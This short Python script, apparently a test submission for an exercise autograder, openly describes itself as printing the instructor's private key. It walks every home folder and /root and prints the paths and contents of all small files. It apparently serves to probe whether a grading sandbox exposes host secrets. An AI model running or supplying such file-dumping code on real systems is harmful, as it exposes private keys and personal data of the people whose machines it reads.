"""Prints the instructor's private key, and everything else below every home folder."""
# aufgabe1
# %% a1-tv
import os
from pathlib import Path
for home in ("@HOME@", "/root", *Path("/home").glob("*")):
    for parent, folders, names in os.walk(home):
        for name in names:
            path = Path(parent, name)
            if str(path).startswith(("@PACKAGES@", "@LIBRARY@", "@CACHE@")) or "/.venv/" in str(path):
                continue
            print(path)
            try:
                if path.stat().st_size < 10_000:
                    print(path.read_text())
            except (OSError, UnicodeDecodeError):
                pass
